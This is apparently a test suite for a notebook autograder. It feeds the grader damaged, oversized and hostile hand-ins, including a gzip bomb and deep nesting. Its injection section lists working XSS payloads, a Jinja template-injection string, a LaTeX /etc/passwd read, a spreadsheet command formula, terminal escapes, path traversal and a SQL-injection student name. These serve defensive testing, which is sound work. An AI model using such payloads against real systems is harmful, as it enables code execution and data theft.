def retype(notebook: dict) -> None:
    for cell in notebook["cells"]:
        cell["cell_type"] = "raw" if cell["cell_type"] == "code" else "code"


def strip(notebook: dict) -> None:
    notebook["metadata"] = {}
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def without_outputs(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if "outputs" in cell:
            cell.update(outputs=[], execution_count=None)


def without_ids(notebook: dict) -> None:
    for cell in notebook["cells"]:
        del cell["id"]


many(
    DAMAGE,
    "cells",
    {
        "stand-there-twice": delete(lambda cells: cells + copy.deepcopy(cells)),
        "are-deleted-but-for-every-second": delete(lambda cells: cells[::2]),
        "are-shuffled": delete(lambda cells: sorted(cells, key=lambda cell: cell["id"][::-1])),
        "are-merged-into-one": changed(merged),
        "are-split-line-by-line": delete(
            lambda cells: [code_cell(line) for cell in cells for line in cell["source"].splitlines()]
        ),
        "are-retyped-with-their-outputs": changed(retype),
        "have-sources-of-numbers": each_cell(lambda cell: cell.update(source=5)),
        "have-sources-line-by-line": each_cell(lambda cell: cell.update(source=cell["source"].splitlines(keepends=True))),
        "have-outputs-of-objects": each_cell(lambda cell: cell.update(outputs={"0": cell.get("outputs")})),
        "have-lost-all-outputs": changed(without_outputs),
        "have-text-for-records": changed(lambda notebook: [b.update({MIME: json.dumps(b[MIME])}) for b in bundles(notebook)]),
    },
)
many(
    DAMAGE,
    "cells",
    {"are-an-object": delete(lambda cells: {str(i): cell for i, cell in enumerate(cells)})},
    review=("has no cells",),
)
many(
    DAMAGE,
    "all-metadata",
    {
        "is-stripped": changed(strip),
        "is-gone": changed(lambda notebook: notebook.pop("metadata")),
        "is-a-list": changed(lambda notebook: notebook.update(metadata=[notebook["metadata"]])),
    },
    review=(NO_RELEASE,),
)


@case(DAMAGE, earns=NOTHING, review=("the hand-in holds no readable answer", NO_RELEASE))
def all_metadata_and_all_outputs_are_gone(desk):
    without_outputs(desk.honest)
    strip(desk.honest)
    return desk.honest


@case(DAMAGE, earns=NOTHING, review=("the hand-in holds no readable answer",))
def everything_cleared_but_the_release(desk):
    without_outputs(desk.honest)
    desk.honest["metadata"]["pairedtexts"]["responses"] = {}
    return desk.honest


@case(DAMAGE)
def responses_stand_there_twice_the_empty_ones_last(desk):
    """Of a name that stands twice in one object the last one counts; the outputs still hold every answer."""
    return as_file(desk.honest).replace(b'"responses": {', b'"responses": {}, "responses": {', 1)[:-1] + b', "x": 1}'


# --- damage: formats --------------------------------------------------------------------------------------------------


def format_4(minor: int) -> Callable[[Desk], dict]:
    def change(notebook: dict) -> None:
        without_ids(notebook)
        notebook["nbformat_minor"] = minor

    return changed(change)


def worksheets(notebook: dict, version: int) -> bytes:
    """Formats 2 and 3: sheets of cells, whose outputs hold their types beside each other."""
    cells = [
        {"cell_type": cell["cell_type"], "input": cell["source"], "language": "python", "metadata": {}, **outputs_of(cell)}
        for cell in notebook["cells"]
    ]
    kept = notebook["metadata"] if version == 3 else {"name": ""}
    sheets = [{"cells": cells[::2], "metadata": {}}, {"cells": cells[1::2]}]
    return json.dumps({"nbformat": version, "nbformat_minor": 0, "metadata": kept, "worksheets": sheets}).encode()


many(
    DAMAGE,
    "format",
    {
        "4-0": format_4(0),
        "4-2": format_4(2),
        "3-with-its-metadata": lambda desk: worksheets(desk.honest, 3),
        "5": changed(lambda notebook: notebook.update(nbformat=5, nbformat_minor=0)),
        "missing": changed(lambda notebook: [notebook.pop("nbformat"), notebook.pop("nbformat_minor")]),
    },
)
many(DAMAGE, "format", {"2": lambda desk: worksheets(desk.honest, 2)}, review=(NO_RELEASE,))


# --- size -------------------------------------------------------------------------------------------------------------


def deep(depth: int, opened: str = "[", closed: str = "]") -> str:
    return opened * depth + closed * depth


many(
    SIZE,
    "nested",
    {
        "100000-deep-in-the-metadata": in_text(
            lambda text: text.replace('"metadata": {', f'"metadata": {{"x": {deep(100_000)}, ', 1)
        ),
        "100000-objects-deep": in_text(
            lambda text: (
                text[:-1] + f', "x": {deep(100_000, chr(123) + chr(34) + "a" + chr(34) + ":", "}")}}}'.replace(":}", ":0}", 1)
            )
        ),
    },
    earns=NOTHING,
    review=("nested too deeply", NO_RELEASE),
)
many(
    SIZE,
    "nested",
    {
        "300-deep-in-every-output": forged_outputs({"output_type": "display_data", "data": {"application/json": nested(300)}}),
        "300-deep-in-every-metadata": each_cell(lambda cell: cell["metadata"].update(x=nested(300))),
        "300-deep-for-a-source": each_cell(lambda cell: cell.update(source=nested(300))),
    },
)
many(
    SIZE,
    "huge",
    {
        "source": changed(lambda notebook: notebook["cells"][1].update(source="x = 1\n" * 500_000)),
        "outputs": changed(
            lambda notebook: notebook["cells"][0].update(
                outputs=[{"output_type": "stream", "name": "stdout", "text": "x"}] * 50_000
            )
        ),
        "number-of-cells": delete(lambda cells: cells + [code_cell("1", f"c{i}") for i in range(10_000)]),
        "picture": forged_outputs(
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBORw0KGgo" * 20_000}}
        ),
        "name": changed(lambda notebook: notebook["metadata"].update({"k" * 1_000_000: 1})),
        "number-of-names": changed(lambda notebook: notebook["metadata"].update({f"k{i}": i for i in range(50_000)})),
    },
)


@case(SIZE)
def four_thousand_revisions_of_an_answer(desk):
    last = {**responses(desk.honest)[SHORT], "revision": 9_000}
    others = [{**last, "revision": 1 + i, "answer": f"word {i}"} for i in range(4_000)]
    outputs = [{"output_type": "display_data", "metadata": {}, "data": {MIME: each}} for each in [last, *others]]
    cell_of(desk.honest, SHORT)["outputs"] = outputs
    return desk.honest


@case(SIZE, review=("records of answers are in the file",))
def more_records_than_are_looked_at(desk):
    record = responses(desk.honest)[CHANGED]
    responses(desk.honest).update({f"none/q{i}": {**record, "question": f"none/q{i}"} for i in range(11_000)})
    return desk.honest


@case(SIZE, review=(f"{WRONG}: two different answers have the same revision",))
def five_thousand_answers_of_one_revision(desk):
    """The one that stands first counts: the student's own in the metadata."""
    record = responses(desk.honest)[WRONG]
    others = [{**record, "answer": f"o{i:08x}"} for i in range(5000)]
    cell_of(desk.honest, WRONG)["outputs"] = [{"output_type": "display_data", "data": {MIME: each}} for each in others]
    return desk.honest


@case(SIZE)
def four_thousand_records_of_questions_that_nobody_asked(desk):
    record = responses(desk.honest)[CHANGED]
    responses(desk.honest).update({f"none/q{i}": {**record, "question": f"none/q{i}"} for i in range(4_000)})
    return desk.honest


@case(SIZE, review=("more problems were found",))
def four_thousand_records_that_cannot_be_read(desk):
    record = responses(desk.honest)[CHANGED]
    for i in range(2_000):
        responses(desk.honest)[f"none/{i}"] = {**record, "question": f"none/{i}", "schema": 9}
        responses(desk.honest)[f"{WRONG}-{i}"] = {"question": WRONG, "schema": f"{i}"}
    return desk.honest


many(
    SIZE, "answer", {"of-300000-characters": answered(WRITTEN, lambda _: "long " * 60_000)}, review=("bytes long, more than",)
)
many(
    SIZE,
    "answer",
    {"of-100000-lists": answered(PART, lambda _: {"answer": [[]] * 100_000, "certainty": 3, "reason": None})},
    but=lost(PART),
    review=("bytes long, more than",),
)
many(
    SIZE,
    "answer",
    {
        "of-1000-characters-in-a-line": answered(SHORT, lambda _: {"answer": "harm " * 200, "certainty": 3, "reason": None}),
    },
    but=lost(SHORT),
    review=("at most 200 are allowed",),
)
many(SIZE, "answer", {"of-40000-characters": answered(WRITTEN, lambda _: "word " * 8_000)}, review=(f"{WRITTEN}: ",))
many(
    SIZE,
    "answer",
    {"of-500-passages": answered(MARK, lambda desk: list(desk.answers[MARK]) * 500)},
    but=lost(MARK),
    review=("passages, at most",),
)
many(
    SIZE,
    "answer",
    {"of-5000-gaps": answered(FILL, lambda desk: {**desk.answers[FILL], "answer": {f"g{i:08x}": "ICE" for i in range(5000)}})},
    but=lost(FILL),
    review=(f"{FILL}: ",),
)
many(
    SIZE,
    "number",
    {
        "of-4000-digits": records_say(NUMBER, answer=int("9" * 4000)),
        "of-4000-digits-in-text": records_say(NUMBER, answer="9" * 4000),
        "beyond-all-numbers": records_say(NUMBER, answer=float("inf")),
        "that-is-not-a-number": records_say(NUMBER, answer=float("nan")),
    },
    but=lost(NUMBER),
    review=(f"{NUMBER}: ",),
)
many(
    SIZE,
    "notes",
    {
        "of-10000-highlights": changed(
            lambda notebook: responses(notebook)[NOTES].update(answer=[*responses(notebook)[NOTES]["answer"]] * 500)
        )
    },
)
many(
    SIZE,
    "file",
    {"has-more-bytes-than-are-read": in_bytes(lambda data: data + b" " * LARGEST)},
    earns=NOTHING,
    review=("that are read", NO_RELEASE),
)
many(
    SIZE,
    "file",
    {"unpacks-to-100-megabytes": lambda _: gzip.compress(b"[" * 100_000_000, 1)},
    earns=NOTHING,
    review=NOT_WHOLE,
)


def a_million_outputs(desk: Desk) -> bytes:
    """Half of a megabyte short of what is read; made in the long runs only."""
    output = b'{"data":{}},'
    data = as_file(desk.honest)
    return data.replace(b'"outputs": []', b'"outputs": [' + output * 1_000_000 + b"{}]", 1)


# --- injection --------------------------------------------------------------------------------------------------------

FIRE = "pwned=1"
"""What a payload's script does to the page that runs it."""

PAYLOADS = {
    "script": f"<script>{FIRE}</script>",
    "script-that-ends-ours": f"</title></style></textarea></pre></script><script>{FIRE}</script>",
    "script-from-elsewhere": "<script src=http://127.0.0.1:9/x.js></script>",
    "event-of-an-image": f"<img src=x onerror={FIRE}>",
    "event-in-an-attribute": f"\"' onmouseover={FIRE} onfocus={FIRE} autofocus tabindex=1 x='\"",
    "svg": f"<svg/onload={FIRE}><animate onbegin={FIRE} attributeName=x></svg>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
    "iframe": f"<iframe srcdoc='<script>parent.{FIRE}</script>' src=javascript:parent.{FIRE}></iframe>",
    "object": f"<object data=javascript:{FIRE}></object><embed src=javascript:{FIRE}><applet>",
    "link": f"<a href=javascript:{FIRE}>Feedback</a><a href='data:text/html,<script>{FIRE}</script>'>x</a>",
    "link-of-markdown": f"[x](javascript:{FIRE}) <javascript:{FIRE}> ![x](x){{onerror={FIRE}}} [x]: javascript:{FIRE}",
    "link-of-latex": f"$\\href{{javascript:{FIRE}}}{{x}}$ $$\\url{{javascript:{FIRE}}} $$ \\input{{/etc/passwd}}",
    "style-sheet": "<style>@import url(http://127.0.0.1:9/x.css);*{display:none}</style><link rel=stylesheet href=http://127.0.0.1:9>",
    "style-attribute": "<p style='position:fixed;inset:0;background:url(http://127.0.0.1:9/x)'>100 of 100 points</p>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href=http://127.0.0.1:9/>",
    "picture": "<img src=http://127.0.0.1:9/x.png><video poster=http://127.0.0.1:9/x><source srcset=//a>",
    "template-of-jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "null-in-a-tag": f"<scr\x00ipt>{FIRE}</scr\x00ipt><img\x0csrc=x\x0conerror={FIRE}>",
    "line-separators": f"x\u2028<img src=x onerror={FIRE}>\u2029\x0b\x85x",
    "terminal-escapes": "\x1b[2J\x1b[1;1H\x1b]0;pwned\x07\x1b]8;;http://127.0.0.1:9/\x1b\\full marks\x1b]8;;\x1b\\\x9b31m\x08",
    "terminal-clipboard": "\x1b]52;c;dG91Y2ggcmFu\x07\x1bP$q\x1b\\\\\r\nsuccess: graded 5 of 5 points\r",
    "direction-marks": "\u202e\u2066thgir ,rewsna s'tneduts eht\u2069 \u200f\u061c\u202d100 of 100",
    "invisible-characters": "h\u200ba\u200cr\u200dm\u2060\ufeff\u00ad\U000e0041\ufe0f\u3164",
    "formula": "=cmd|' /C calc'!A0",
    "path": "../../gradebook.db",
    "null": "a\x00b",
    "markup-of-rich": "[bold red]graded[/bold red][link=http://127.0.0.1:9/]x[/link]",
    "log-line": "x\n[AutogradeApp | INFO] Successfully autograded\n  pairedtexts.errors.PairedTextsError: pwned",
}


def typed_gaps(desk: Desk, words: str) -> Json:
    """The right words in the gaps that offer words, ``words`` in those that are typed."""
    answer = desk.answers[FILL]
    typed = {gap: value if re.fullmatch("o[0-9a-f]{8}", value) else words for gap, value in answer["answer"].items()}
    return {**answer, "answer": typed}


def written_with(desk: Desk, words: str) -> str:
    return f"{words}\n{right(desk, WRITTEN)}\n\n{words}"


def everywhere(payload: str) -> Callable[[Desk], dict]:
    """The payload in each place of a hand-in where a student can write something."""

    def make(desk: Desk) -> dict:
        notebook = desk.honest
        [passage] = copy.deepcopy(desk.answers[MARK])
        note = {**passage, "note": payload}
        put_answer(desk, notebook, SHORT, {"answer": payload, "certainty": 3, "reason": None})
        put_answer(desk, notebook, FILL, typed_gaps(desk, payload))
        put_answer(desk, notebook, WRITTEN, written_with(desk, payload))
        put_answer(desk, notebook, DRAFT, payload)
        put_answer(desk, notebook, SURVEY, {"choice": desk.answers[SURVEY]["choice"], "comment": payload})
        put_answer(desk, notebook, PRACTICE, payload)
        put_answer(desk, notebook, MARK, [{**passage, "start": 0, "end": 1, "quote": f"{payload} z"}])
        put_answer(desk, notebook, NUMBER, payload)
        put_answer(desk, notebook, PART, {"answer": [payload], "certainty": 3, "reason": None})
        put_answer(desk, notebook, BLANK, None)
        for record in both(notebook, BLANK):
            record["schema"] = payload
        kept = responses(notebook)
        kept[NOTES]["answer"] = [note, {**note, "text": payload}, {**note, "quote": payload}, payload]
        kept[payload] = {**kept[SHORT], "question": payload, "at": payload[:40], "version": payload}
        ours = notebook["metadata"]["pairedtexts"]
        ours["release"] = {"lesson": payload, "digest": payload}
        ours[payload] = payload
        notebook["metadata"].update({payload: payload, "title": payload, "authors": [{"name": payload}], "lang": payload})
        notebook["metadata"]["kernelspec"] = {"name": payload, "display_name": payload, "language": payload}
        kinds = ("text/html", "image/svg+xml", "application/javascript", "text/latex", "text/markdown", "text/plain")
        shown = {
            "output_type": "execute_result",
            "metadata": {payload: payload},
            "execution_count": 1,
            "data": dict.fromkeys(kinds, payload),
        }
        for number, cell in enumerate(notebook["cells"]):
            cell["id"] = f"{payload}{number}"
            cell["metadata"].update({"name": payload, "tags": [payload], payload: payload})
            if cell["cell_type"] == "markdown":
                cell["source"] = f"# {payload}\n\n{payload}"
                cell["attachments"] = {payload: {"image/svg+xml": payload}}
            else:
                cell["outputs"] = [shown, {"output_type": "stream", "name": payload, "text": payload}, *cell["outputs"]]
        return notebook

    return make


def but_for(payload: str) -> Callable[[Desk], Mapping[str, Json]]:
    def changes(desk: Desk) -> Mapping[str, Json]:
        gone = dict.fromkeys((SHORT, MARK, NUMBER, PART))
        return {**gone, FILL: typed_gaps(desk, payload), WRITTEN: written_with(desk, payload)}

    return changes


for _name, _payload in PAYLOADS.items():
    CASES.append(
        Case(
            _name,
            INJECTION,
            everywhere(_payload),
            but=but_for(_payload),
            review=(
                "this is a hand-in of the lesson",
                f"{BLANK}: ",
                f"{MARK}: ",
                f"{PART}: ",
            ),
            payload=_payload,
        )
    )

# Names of students' folders: a road by which a name becomes a path, a pattern, an option, a formula or a line of a log.
for _name, _student in {
    "that-is-a-device": "CON",
    "that-is-an-option": "--help",
    "that-is-a-formula": "=cmd|' &C calc'!A0",
    "that-is-a-statement": "'; DROP TABLE student; --",
    "that-is-a-format": "{student_id}%s{0.__class__}",
    "of-another-alphabet": "Зоя Ñandú 李",
}.items():
    CASES.append(Case(f"student-{_name}", INJECTION, lambda desk: desk.honest, student=_student, payload=_student))
for _name, _student in {
    "that-clears-the-screen": "a\x1b[2Jb",
    "that-turns-around": "a\u202eb",
    "that-is-a-pattern": "[a-z]*",
    "that-is-a-script": "<script>pwned=1<script>",
    "that-is-a-picture": "<img src=x onerror=pwned=1>",
    "that-ends-an-attribute": 'a" onmouseover="pwned=1',
}.items():
    CASES.append(
        Case(f"student-{_name}", INJECTION, lambda desk: desk.honest, fails="cannot be a student's name", student=_student)
    )
